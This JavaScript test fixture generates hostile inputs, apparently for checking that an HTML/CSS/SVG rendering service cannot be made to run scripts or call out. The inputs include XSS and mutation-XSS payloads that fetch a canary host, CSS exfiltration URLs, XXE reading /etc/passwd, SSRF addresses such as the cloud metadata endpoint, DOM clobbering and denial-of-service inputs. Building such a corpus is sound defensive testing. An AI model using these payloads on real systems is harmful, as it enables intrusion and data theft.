// Hostile inputs of our own, in every format that is taken. Scripts would set a mark and ask the canary; what loads would ask it.

const rep = (text, times) => text.repeat(times);
const range = (count, make) => Array.from({ length: count }, (_, i) => make(i));
const BODY = '<a class="btn" href="#">Go</a><p class="words">Some words to read on this page.</p>';
const page = (inner, css = '.btn { color: #fff; background: #0b5563 }') =>
  `<!doctype html><html><head><title>T</title><style>${css}</style></head><body>${inner}${BODY}</body></html>`;

/** @param canary address that nothing may ask */
const scripts = (canary) => {
  const run = `top.__ran=1;fetch('${canary}/script')`;
  const attribute = run.replaceAll('"', '&quot;');
  const handlers = [
    ['img', 'onerror', 'src=x'],
    ['img', 'onload', 'src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="'],
    ['body', 'onload', ''],
    ['body', 'onpageshow', ''],
    ['svg', 'onload', ''],
    ['details', 'ontoggle', 'open'],
    ['video', 'onerror', 'src=x autoplay'],
    ['audio', 'onerror', 'src=x'],
    ['input', 'onfocus', 'autofocus'],
    ['select', 'onfocus', 'autofocus'],
    ['textarea', 'onfocus', 'autofocus'],
    ['button', 'onfocus', 'autofocus'],
    ['a', 'onfocus', 'href=# tabindex=1 autofocus'],
    ['marquee', 'onstart', ''],
    ['object', 'onerror', 'data=x'],
    ['embed', 'onload', 'src=x'],
    ['iframe', 'onload', 'src=about:blank'],
    ['link', 'onerror', 'rel=stylesheet href=x'],
    ['style', 'onload', ''],
    ['div', 'onpointerover', 'style="position:fixed;inset:0"'],
    ['div', 'onanimationstart', 'style="animation:x 1s"'],
    ['div', 'ontransitionend', 'style="transition:all 1s"'],
    ['div', 'onscroll', 'style="overflow:auto;height:9px"'],
    ['form', 'onformdata', ''],
    ['dialog', 'oncancel', 'open'],
    ['track', 'onerror', 'src=x'],
    ['meter', 'onclick', ''],
    ['body', 'onhashchange', ''],
    ['body', 'onmessage', ''],
    ['frameset', 'onload', ''],
  ].map(([tag, event, more]) => `<${tag} ${more} ${event}="${attribute}">x</${tag}>`);
  const markup = [
    `<script>${run}</script>`,
    `<SCRIPT>${run}</SCRIPT>`,
    `<script type=module>${run}</script>`,
    `<script src="${canary}/s.js"></script>`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><script href="${canary}/s.js"/></svg>`,
    `<math><script>${run}</script></math>`,
    `<template><script>${run}</script></template>`,
    `<noscript><p title="</noscript><img src=x onerror='${run}'>"></noscript>`,
    `<a class=btn href="javascript:${attribute}">x</a>`,
    `<a class=btn href="jav&#x09;ascript:${attribute}">x</a>`,
    `<a class=btn href=" &#1;javascript:${attribute}">x</a>`,
    `<a class=btn href="JaVaScRiPt:${attribute}">x</a>`,
    `<a class=btn href="data:text/html,<script>${run}</script>">x</a>`,
    `<a class=btn href="vbscript:x">x</a>`,
    `<svg><a xlink:href="javascript:${attribute}"><text y=20>x</text></a></svg>`,
    `<svg><a><animate attributeName=href values="javascript:${attribute}"/><text y=20>x</text></a></svg>`,
    `<svg><set attributeName=onmouseover to="${attribute}"/></svg>`,
    `<svg><animate onbegin="${attribute}" attributeName=x dur=1s></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>#x"/></svg>`,
    `<svg><foreignObject><body onload="${attribute}"></foreignObject></svg>`,
    `<form action="javascript:${attribute}"><button class=btn>x</button></form>`,
    `<form><button class=btn formaction="javascript:${attribute}">x</button></form>`,
    `<input type=image formaction="javascript:${attribute}">`,
    `<isindex action="javascript:${attribute}">`,
    `<iframe srcdoc="<script>${attribute}</script>"></iframe>`,
    `<iframe src="javascript:${attribute}"></iframe>`,
    `<object data="javascript:${attribute}"></object>`,
    `<object data="data:text/html,<script>${run}</script>"></object>`,
    `<embed src="javascript:${attribute}">`,
    `<meta http-equiv=refresh content="0;url=javascript:${attribute}">`,
    `<meta http-equiv=refresh content="0;url=${canary}/refresh">`,
    `<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'"><script>${run}</script>`,
    `<base href="javascript:/a/-${run}//"><a class=btn href="#">x</a>`,
    `<link rel=import href="${canary}/i.html">`,
    `<link rel=stylesheet href="javascript:${attribute}">`,
    `<style>@import "javascript:${run}"; .btn{behavior:url(x);-moz-binding:url(${canary}/b)}</style>`,
    `<div style="width:expression(${attribute})">x</div>`,
    `<svg><style><img src=x onerror="${attribute}"></style></svg>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${attribute}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${attribute}">`,
    `<svg></p><style><a id="</style><img src=1 onerror='${run}'>">`,
    `<math><annotation-xml encoding="text/html"><img src=x onerror="${attribute}"></annotation-xml></math>`,
    `<svg><title><img src=x onerror="${attribute}"></title></svg>`,
    `<svg><desc><noembed><img title="</noembed><img src=x onerror='${run}'>"></desc></svg>`,
    `<xmp><p title="</xmp><img src=x onerror='${run}'>"></xmp>`,
    `<textarea><p title="</textarea><img src=x onerror='${run}'>"></textarea>`,
    `<title><p title="</title><img src=x onerror='${run}'>"></title>`,
    `<listing>&lt;img src=x onerror="${attribute}"&gt;</listing>`,
    `<!--><img src=x onerror="${attribute}">-->`,
    `<!--[if true]><img src=x onerror="${attribute}"><![endif]-->`,
    `<![CDATA[<img src=x onerror="${attribute}">]]>`,
    `<?xml version="1.0"?><img src=x onerror="${attribute}">`,
    `<img src="x" alt="\`><img src=x onerror=${attribute}>">`,
    `<img """><script>${run}</script>">`,
    `<a href="#" style="--x:</style><script>${run}</script>">x</a>`,
    `<style>.a{content:"</style><script>${run}</script>"}</style>`,
    `<select><option><script>${run}</script></option><keygen><img src=x onerror="${attribute}"></select>`,
    `<table><td background="javascript:${attribute}">x</td></table>`,
    `<portal src="${canary}/p"></portal><fencedframe src="${canary}/f"></fencedframe>`,
    `<plaintext><img src=x onerror="${attribute}">`,
    `<body><frameset><frame src="javascript:${attribute}"></frameset>`,
    `<button popovertarget=p class=btn>x</button><div popover id=p onbeforetoggle="${attribute}">y</div>`,
    `<video><source onerror="${attribute}" src=x></video>`,
    `<div data-rq-order=0 data-rq-hover onclick="${attribute}">x</div>`,
  ];
  return [...handlers, ...markup].map((inner, i) => ({ name: `script ${i}`, by: 'paste', html: page(inner) }));
};

const leaving = (canary) => {
  const at = (i) => `${canary}/load-${i}.png`;
  const css = [
    (u) => `background:url(${u})`,
    (u) => `background:url("${u}")`,
    (u) => `background-image:image-set("${u}" 1x)`,
    (u) => `background-image:-webkit-image-set(url(${u}) 1x)`,
    (u) => `background-image:cross-fade(url(${u}),url(${u}))`,
    (u) => `background:src("${u}")`,
    (u) => `background:image("${u}")`,
    (u) => `list-style-image:url(${u});display:list-item`,
    (u) => `cursor:url(${u}),auto`,
    (u) => `content:url(${u})`,
    (u) => `border-image:url(${u}) 1`,
    (u) => `mask:url(${u})`,
    (u) => `-webkit-mask-image:url(${u})`,
    (u) => `filter:url(${u}#f)`,
    (u) => `clip-path:url(${u}#c)`,
    (u) => `shape-outside:url(${u});float:left`,
    (u) => `offset-path:url(${u}#p)`,
    (u) => `--u:url(${u});background:var(--u)`,
    (u) => `background:u\\72l(${u})`,
    (u) => `background:url(/**/"${u}")`,
    (u) => `background:url(${u.replace('http:', '')})`,
    (u) => `background:url(${u.replace('http://', 'http:\\2f\\2f')})`,
    (u) => `background:URL( '${u}' )`,
    (u) => `fill:url(${u}#x)`,
    (u) => `animation:x 1s;--k:url(${u})`,
  ];
  const markup = [
    (u) => `<img src="${u}">`,
    (u) => `<img srcset="${u} 1x, ${u} 2x">`,
    (u) => `<picture><source srcset="${u}"><img></picture>`,
    (u) => `<video poster="${u}" src="${u}" autoplay></video>`,
    (u) => `<audio src="${u}" autoplay></audio>`,
    (u) => `<input type=image src="${u}">`,
    (u) => `<body background="${u}">`,
    (u) => `<table background="${u}"><td background="${u}">x</td></table>`,
    (u) => `<svg><image href="${u}" width=9 height=9 /></svg>`,
    (u) => `<svg><use href="${u}#x"/></svg>`,
    (u) => `<svg><filter id=f><feImage href="${u}"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>`,
    (u) => `<svg><style>rect{fill:url(${u}#a)}</style><rect width=9 height=9 /></svg>`,
    (u) => `<svg fill="url(${u}#a)"><rect width=9 height=9 /></svg>`,
    (u) => `<link rel=preload as=image href="${u}"><link rel=prefetch href="${u}"><link rel=dns-prefetch href="${u}">`,
    (u) => `<link rel=icon href="${u}"><link rel=manifest href="${u}">`,
    (u) => `<link rel=stylesheet href="${u}">`,
    (u) => `<style>@import url(${u});</style>`,
    (u) => `<style>@import "${u}" layer(a) supports(display:grid);</style>`,
    (u) => `<style>@font-face{font-family:q;src:url(${u})}.btn{font-family:q}</style>`,
    (u) => `<style>@namespace url(${u});@document url(${u}){a{color:red}}</style>`,
    (u) => `<iframe src="${u}"></iframe><object data="${u}"></object><embed src="${u}">`,
    (u) => `<a class=btn href="${u}" ping="${u}">x</a>`,
    (u) => `<form action="${u}" method=post><button class=btn autofocus>x</button></form>`,
    (u) => `<base href="${u}"><img src="relative.png">`,
    (u) => `<div style="background:url(${u})">x</div>`,
    (u) => `<template shadowrootmode=open><img src="${u}"></template>`,
    (u) => `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='${u}'/></svg>">`,
  ];
  return [
    ...css.map((make, i) => ({ name: `css address ${i}`, by: 'paste', html: page('', `.btn{${make(at(i))}}`) })),
    ...markup.map((make, i) => ({ name: `html address ${i}`, by: 'paste', html: page(make(at(100 + i))) })),
  ];
};

const deep = () =>
  [
    ['calc', page('', `.btn{width:${rep('calc(', 5000)}1px${rep(')', 5000)}}`)],
    ['color-mix', page('', `.btn{color:${rep('color-mix(in srgb, red, ', 5000)}blue${rep(')', 5000)}}`)],
    ['supports', page('', `@supports ${rep('(not ', 3000)}(color:red)${rep(')', 3000)}{.btn{color:red}}`)],
    ['supports selector', page('', `@supports selector(${rep(':not(', 3000)}a${rep(')', 3000)}){.btn{color:red}}`)],
    ['not', page('', `${rep(':not(', 4000)}a${rep(')', 4000)}{color:red}`)],
    ['is', page('', `${rep(':is(', 4000)}a${rep(')', 4000)}{color:red}`)],
    ['has', page('', `${rep(':has(', 300)}a${rep(')', 300)}{color:red}`)],
    ['many not', page('', `a${rep(':not(.x)', 4000)}{color:red}`)],
    ['media', page('', `${rep('@media all{', 3000)}.btn{color:red}${rep('}', 3000)}`)],
    ['layers', page('', `${rep('@layer a{', 2000)}.btn{color:red}${rep('}', 2000)}`)],
    ['nested rules', page('', `${rep('.btn{&', 1000)}{color:red}${rep('}', 1000)}`)],
    ['nested lists of selectors', page('', `${rep('a,b{', 25)}color:red${rep('}', 25)}`)],
    ['open brackets', page('', `.btn{color:${rep('(', 100_000)}`)],
    ['open braces', page('', rep('{[', 50_000))],
    ['what confused the parser', page('', `${rep('(', 60)}`) + '<style>[]a)[calc( </style>'],
    [
      'chain of var',
      page('', `.btn{--a0:red;${range(5000, (i) => `--a${i + 1}:var(--a${i})`).join(';')};color:var(--a5000)}`),
    ],
    [
      'circle of var',
      page('', `.btn{${range(3000, (i) => `--a${i}:var(--a${(i + 1) % 3000})`).join(';')};color:var(--a1)}`),
    ],
    [
      'doubling var',
      page(
        '',
        `.btn{--a0:red;${range(40, (i) => `--a${i + 1}:var(--a${i}) var(--a${i})`).join(';')};color:var(--a40)}`,
      ),
    ],
    [
      'names of prototypes',
      page(
        '<i class="constructor __proto__" id="toString"></i>',
        '.btn{constructor:2;color:red} a{__proto__:1} .constructor{hasOwnProperty:x} .__proto__:valueOf{color:red}',
      ),
    ],
    ['gradients', page('', `.btn{background:${range(800, (i) => `linear-gradient(${i}deg, red, blue)`).join(',')}}`)],
    [
      'stops',
      page('', `.btn{background:linear-gradient(${range(5000, (i) => `#${(i + 0x100000).toString(16)}`).join(',')})}`),
    ],
    ['shadows', page('', `.btn{box-shadow:${range(5000, (i) => `${i}px 0 2px red`).join(',')}}`)],
    ['shadows of text', page('', `.btn{text-shadow:${range(2000, (i) => `${i}px 0 2px red`).join(',')}}`)],
    ['transitions', page('', `.btn{transition:${range(5000, (i) => `color ${i}s`).join(',')}}`)],
    ['filters', page('', `.btn{filter:${rep('blur(1px) ', 2000)};backdrop-filter:${rep('blur(1px) ', 2000)}}`)],
    ['transforms', page('', `.btn{transform:${rep('rotate(1deg) ', 5000)}}`)],
    ['imports', page('', rep('@import url(a.css);', 20_000))],
    ['comments', page('', rep('/*', 100_000))],
    ['spaces', page('', `.btn{color:${rep(' ', 500_000)}red}`)],
    ['question marks', page('', `.btn{background:url(${rep('?', 200_000)})}`)],
    ['rules', page('', range(40_000, (i) => `.r${i}{color:#${(i + 0x100000).toString(16)}}`).join(''))],
    ['declarations', page('', `.btn{${range(50_000, (i) => `--x${i}:${i}`).join(';')}}`)],
    [
      'selectors with many ways',
      page(rep('<div>', 300) + rep('</div>', 300), `${rep('div ', 100)}p{color:red} ${rep('div ~ ', 60)}p{color:red}`),
    ],
    [
      'has on many',
      page(
        rep('<div><p><i></i></p></div>', 4000),
        'div:has(i){color:red} body:has(i ~ .x){color:red} div:has(+ div){color:blue}',
      ),
    ],
    [
      'positions',
      page(
        rep('<i></i>', 15_000),
        'i:nth-child(2n+1){color:red} i:nth-last-of-type(3n){color:blue} i:nth-child(2 of i){color:green}',
      ),
    ],
    ['classes', page(`<a class="${range(100_000, (i) => `c${i}`).join(' ')}" href="#">x</a>`, '.c5{color:red}')],
    ['attributes', page(`<a href="#" ${range(50_000, (i) => `data-a${i}="x"`).join(' ')}>x</a>`)],
    ['nested lists', page(rep('<ul><li><a href="#">x</a>', 200) + rep('</li></ul>', 200))],
    [
      'nested fieldsets',
      page(
        rep('<fieldset>', 200) + rep('<input required>', 2000) + rep('</fieldset>', 200),
        'fieldset:invalid{color:red} input:invalid{border:1px solid red}',
      ),
    ],
    ['nested divs', page(rep('<div>', 19_000))],
    ['nested spans', page(rep('<span style="color:red">', 400) + 'x' + rep('</span>', 400))],
    ['nested tables', page(rep('<table><tr><td>', 150))],
    ['formatting elements', page(range(400, (i) => `<b id=b${i}>`).join('') + rep('<p>', 400))],
    ['links', page(range(20_000, (i) => `<a href="#${i}">link ${i}</a> `).join(''))],
    ['more links', page(range(59_000, (i) => `<a href="#${i}">link ${i}</a> `).join(''))],
    ['too many elements', page(rep('<i></i>', 70_000))],
    [
      'buttons',
      page(
        range(1500, (i) => `<button class="b${i}">b ${i}</button>`).join(''),
        range(1500, (i) => `.b${i}:hover{color:red}`).join(''),
      ),
    ],
    ['options', page(`<select>${rep('<option>a</option>', 15_000)}</select>`)],
    [
      'labels',
      page(
        range(
          2000,
          (i) =>
            `<input id="i${i}" aria-labelledby="${range(20, (j) => `i${i + j}`).join(' ')}"><label for="i${i}">l</label>`,
        ).join(''),
      ),
    ],
    ['pattern', page(`<form><input pattern="(a+)+$" value="${rep('a', 60)}!"></form>`, 'input:invalid{color:red}')],
    [
      'pattern looking back',
      page(`<form><input pattern="(a|a)*\\1$" value="${rep('a', 60)}!"></form>`, 'input:invalid{color:red}'),
    ],
    ['long text', page(`<p>${rep('word ', 400_000)}</p>`)],
    ['one long word', page(`<a href="#">${rep('x', 1_000_000)}</a>`)],
    ['srcset', page(`<img srcset="${rep('a ', 100_000)}"><img srcset="${rep(' ', 100_000)}(">`)],
    ['doctypes', rep('<!doctype', 100_000), 'a{color:red}'],
    ['heads', rep('<head ', 100_000), 'a{color:red}'],
    ['roots', rep('<html ', 100_000), 'a{color:red}'],
    [
      'clobbered form',
      page(
        `<form class=f>${['children', 'attributes', 'parentElement', 'parentNode', 'childNodes', 'matches', 'closest', 'querySelector', 'querySelectorAll', 'getAttribute', 'setAttribute', 'removeAttribute', 'hasAttribute', 'tagName', 'nodeName', 'nodeType', 'textContent', 'innerHTML', 'ownerDocument', 'getBoundingClientRect', 'getClientRects', 'style', 'classList', 'className', 'firstElementChild', 'nextElementSibling', 'contains', 'checkVisibility', 'addEventListener', 'scrollIntoView', 'isConnected'].map((name) => `<input name="${name}">`).join('')}<button>ok</button></form>`,
      ),
    ],
    [
      'clobbered document',
      page(
        [
          'body',
          'documentElement',
          'head',
          'querySelector',
          'querySelectorAll',
          'defaultView',
          'fonts',
          'createElement',
          'createRange',
          'getElementById',
          'elementFromPoint',
          'adoptedStyleSheets',
          'addEventListener',
          'getAnimations',
          'styleSheets',
        ]
          .map((name) => `<img name="${name}"><form name="${name}"></form>`)
          .join(''),
      ),
    ],
    [
      'clobbered window',
      page(
        ['top', 'parent', 'self', 'frames', 'name', 'location', 'getComputedStyle', 'CSSStyleSheet', 'scrollTo']
          .map((name) => `<a id="${name}" name="${name}">x</a>`)
          .join(''),
      ),
    ],
    ['fonts', page('', range(3000, (i) => `@font-face{font-family:f${i};src:url(f${i}.woff2)}`).join(''))],
    [
      'keyframes',
      page(
        '',
        `${range(3000, (i) => `@keyframes k${i}{from{color:red}to{color:blue}}`).join('')}.btn{animation:k1 1s infinite}`,
      ),
    ],
    [
      'containers',
      page(
        rep('<div class="c">', 200) + rep('</div>', 200),
        `.c{container-type:inline-size}${rep('@container (width>1px){', 50)}.btn{color:red}${rep('}', 50)}`,
      ),
    ],
    [
      'properties',
      page(
        '',
        `${range(3000, (i) => `@property --p${i}{syntax:"<color>";inherits:true;initial-value:red}`).join('')}.btn{color:var(--p9)}`,
      ),
    ],
    [
      'numbers',
      page(
        '',
        '.btn{width:1e999px;margin:-1e999px;line-height:NaN;opacity:infinity;font-size:calc(1px/0);z-index:99999999999999;border-width:calc(1e300px*1e300)}',
      ),
    ],
    [
      'directions',
      page(
        '<p dir=rtl>\u202e\u2066\u200f abc \u202c</p>',
        '.btn{writing-mode:vertical-rl;direction:rtl;unicode-bidi:bidi-override}',
      ),
    ],
    ['nothing but a comment', '<!doctype html><!-- nothing -->'],
    ['only text', '<p>x'],
    ['frames covering all', page('<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">x</div>')],
    ['zoomed out of sight', page('<div style="zoom:1000;transform:scale(1e6);filter:blur(999px)">x</div>')],
  ].map(([name, html, css]) => ({ name, by: 'paste', html, ...(css ? { css } : {}) }));

const svg = (inner, more = 'width="800" height="800"') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${more}>${inner}</svg>`;

const pictures = (canary) =>
  [
    [
      'morphology',
      svg(
        '<filter id="f"><feMorphology radius="400"/></filter><g filter="url(#f)"><rect width="800" height="800"/></g>',
      ),
    ],
    [
      'morphologies',
      svg(
        `<filter id="f">${rep('<feMorphology radius="39"/>', 50)}</filter><g filter="url(#f)"><rect width="800" height="800"/></g>`,
      ),
    ],
    [
      'matrix',
      svg(
        `<filter id="f"><feConvolveMatrix order="99" kernelMatrix="${rep('1 ', 9801)}"/></filter><rect filter="url(#f)" width="800" height="800"/>`,
      ),
    ],
    [
      'turbulence',
      svg(
        '<filter id="f"><feTurbulence numOctaves="900" baseFrequency=".9"/></filter><rect filter="url(#f)" width="800" height="800"/>',
      ),
    ],
    [
      'blur',
      svg(
        '<filter id="f" x="-9" y="-9" width="99" height="99"><feGaussianBlur stdDeviation="99999"/></filter><rect filter="url(#f)" width="800" height="800"/>',
      ),
    ],
    [
      'uses',
      svg(
        `<g id="a0"><rect width="9" height="9"/></g>${range(12, (i) => `<g id="a${i + 1}">${rep(`<use xlink:href="#a${i}"/>`, 10)}</g>`).join('')}`,
      ),
    ],
    [
      'entities',
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${range(9, (i) => `<!ENTITY ${'bcdefghij'[i]} "${rep(`&${'abcdefghi'[i]};`, 10)}">`).join('')}]>${svg('<text>&j;</text>')}`,
    ],
    [
      'outer entity',
      `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "${canary}/entity">]>${svg('<text>&x;&y;</text>')}`,
    ],
    [
      'picture within',
      svg(
        `<image xlink:href="${canary}/inner.png" width="9" height="9"/><image xlink:href="file:///etc/hostname" width="9" height="9"/>`,
      ),
    ],
    ['deep groups', svg(rep('<g>', 20_000) + rep('</g>', 20_000))],
    ['long path', svg(`<path d="M0 0${rep('L1 1 9 9 2 2', 150_000)}" stroke="red" stroke-dasharray="0.001"/>`)],
    [
      'patterns',
      svg(
        `<pattern id="p" width=".001" height=".001"><rect width="1" height="1"/></pattern><rect fill="url(#p)" width="800" height="800"/>`,
      ),
    ],
    [
      'masks',
      svg(
        range(
          60,
          (i) => `<mask id="m${i}"><rect width="800" height="800" fill="#fff" mask="url(#m${i + 1})"/></mask>`,
        ).join('') + '<rect mask="url(#m0)" width="800" height="800"/>',
      ),
    ],
    ['huge size', svg('<rect width="9" height="9"/>', 'width="1000000" height="1000000"')],
    [
      'script',
      svg(`<script>top.__ran=1;fetch('${canary}/svg')</script><rect onload="top.__ran=1" width="9" height="9"/>`),
    ],
    ['no picture', 'this is no picture'],
    ['empty', ''],
  ].map(([name, text]) => ({ name: `picture ${name}`, by: 'upload', picture: text }));

const bodies = () =>
  [
    ['nothing', ''],
    ['open brackets', rep('[', 200_000)],
    ['nested objects', rep('{"a":', 50_000)],
    ['many members', `{${range(800_000, (i) => `"k${i}":1`).join()}}`],
    ['a number', '1e999'],
    ['null', 'null'],
    ['NUL in the name', JSON.stringify({ site: { name: 'a\0b' }, name: 'x', html: '<p>x' })],
    ['NUL in the HTML', JSON.stringify({ site: { name: 'x' }, name: 'x', html: '<p>\0' })],
    ['lone surrogate', '{"site":{"name":"x"},"name":"\\ud800","html":"<p>x"}'],
    ['prototype', '{"__proto__":{"site":{"name":"x"}},"constructor":{"prototype":{}},"name":"x","html":"<p>x"}'],
    ['wrong types', JSON.stringify({ site: [], name: {}, html: 7 })],
    ['too long a name', JSON.stringify({ site: { name: rep('n', 100_000) }, name: 'x', html: '<p>x' })],
    ['binary', '\x01\x02\x03'],
    ['cut off', '{"site":{"name":"x"},"name":"x","html":"<p'],
  ].map(([name, body]) => ({ name: `body ${name}`, by: 'body', body }));

const addresses = () =>
  [
    'http://127.0.0.1:22/',
    'http://localhost/',
    'http://[::1]/',
    'http://0.0.0.0/',
    'http://10.0.0.1/',
    'http://192.168.1.1/',
    'http://172.16.0.1/',
    'http://169.254.169.254/latest/meta-data',
    'http://2130706433/',
    'http://0x7f000001/',
    'http://0177.0.0.1/',
    'http://127.1/',
    'http://[::ffff:127.0.0.1]/',
    'http://[fe80::1]/',
    'http://[fc00::1]/',
    'file:///etc/passwd',
    'ftp://127.0.0.1/',
    'gopher://127.0.0.1/',
    'data:text/html,<p>x',
    'javascript:alert(1)',
    'http://127.0.0.1@127.0.0.1/',
    'http://\u0000/',
    'http://a b/',
    'http://',
  ].map((address) => ({ name: `address ${address}`, by: 'address', address }));

const values = (canary) =>
  [
    `url(${canary}/value.png)`,
    'red; } body { display: none',
    'red /*',
    '</style><script>top.__ran=1</script>',
    'expression(alert(1))',
    'url(javascript:alert(1))',
    rep('calc(', 1000),
    'var(--x, var(--x, var(--x)))',
    '\\72 ed',
    'attr(href)',
    'image-set("x" 1x)',
    rep('rgb(0 0 0) ', 300),
    '"\\',
    "'",
    '@import "x"',
  ].map((value) => ({ name: `value ${value.slice(0, 40)}`, by: 'value', value }));

const changes = (canary) =>
  [
    `<script>top.__ran=1</script>`,
    `<img src=x onerror="top.__ran=1">`,
    `<img src="${canary}/change.png">`,
    rep('<div>', 19_000),
    rep('<b></b>', 12_000),
    '<style>*{display:none}</style>',
    '</body></html><script>top.__ran=1</script>',
    '<base href="https://evil.example">',
    '<form name=body><input name=children></form>',
    '<!--',
    '<plaintext>',
    '<svg><style><img src=x onerror="top.__ran=1">',
    '<template><p></template>',
    '<table><tr>',
    '<select><a href="javascript:top.__ran=1">x</a>',
  ].map((html) => ({ name: `change ${html.slice(0, 40)}`, by: 'change', html }));

/** All inputs. @param canary origin that nothing may ask */
export const hostileInputs = (canary) => [
  ...[...scripts(canary), ...leaving(canary)].map((input) => ({ ...input, isForFrames: true })),
  ...deep(),
  ...pictures(canary),
  ...bodies(),
  ...addresses(),
  ...values(canary),
  ...changes(canary),
];
